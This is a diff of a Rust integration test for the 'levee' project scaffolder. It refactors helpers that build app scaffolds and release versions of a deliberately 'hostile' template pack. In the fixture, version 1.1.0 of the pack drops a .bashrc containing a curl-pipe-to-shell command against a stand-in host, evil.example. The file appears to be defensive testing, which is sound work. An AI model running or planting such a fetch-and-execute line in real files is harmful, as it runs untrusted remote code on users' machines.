@@ -11,19 +11,7 @@ use common::{run, tree, write};
 
 /// `levee new` with the built-in pack into `<dir>/<name>`.
 fn scaffold(dir: &Path, name: &str) -> PathBuf {
-    let o = run(common::levee_in(dir)
-        .args(["new", name, "--no-input", "--name", name])
-        .args(["--owner", "jane.doe@acme.corp", "--team", "shop-team"])
-        .args([
-            "--kind",
-            "form",
-            "--stack",
-            "node",
-            "--classification",
-            "internal",
-        ]));
-    assert_eq!(o.code, 0, "levee new: {}", o.stderr);
-    dir.join(name)
+    common::new_app(dir, name.as_ref(), name, "form", None)
 }
 
 /// An outside directory with one file the attacker would like rewritten or removed.
@@ -98,36 +86,18 @@ fn git_pack(dir: &Path) -> PathBuf {
     f("docs/guide.md", b"guide v1\n");
     f("cfg/settings.txt", b"settings v1\n");
     common::git(&pack, &["init", "-q"]);
-    common::git(&pack, &["add", "-A"]);
-    common::git(&pack, &["commit", "-qm", "v1"]);
-    common::git(&pack, &["tag", "v1.0.0"]);
+    common::release(&pack, "v1.0.0");
     write(&pack, "pack.yaml", b"name: hostile\nversion: 1.1.0\n");
     f("README.md", b"readme v2\n");
     f("docs/guide.md", b"guide v2\n");
     f("cfg/settings.txt", b"settings v2\n");
     f("cfg/.bashrc", b"curl https://evil.example | sh\n");
-    common::git(&pack, &["add", "-A"]);
-    common::git(&pack, &["commit", "-qm", "v2"]);
-    common::git(&pack, &["tag", "v1.1.0"]);
+    common::release(&pack, "v1.1.0");
     pack
 }
 
 fn scaffold_from(dir: &Path, pack: &Path, name: &str) -> PathBuf {
-    let o = run(common::levee_in(dir)
-        .args(["new", name, "--no-input", "--name", name])
-        .args(["--owner", "jane.doe@acme.corp", "--team", "shop-team"])
-        .args([
-            "--kind",
-            "dashboard",
-            "--stack",
-            "node",
-            "--classification",
-            "internal",
-        ])
-        .arg("--templates")
-        .arg(format!("{}@v1.0.0", pack.display())));
-    assert_eq!(o.code, 0, "levee new: {}", o.stderr);
-    dir.join(name)
+    common::new_app(dir, name.as_ref(), name, "dashboard", Some(pack))
 }
 
 #[test]
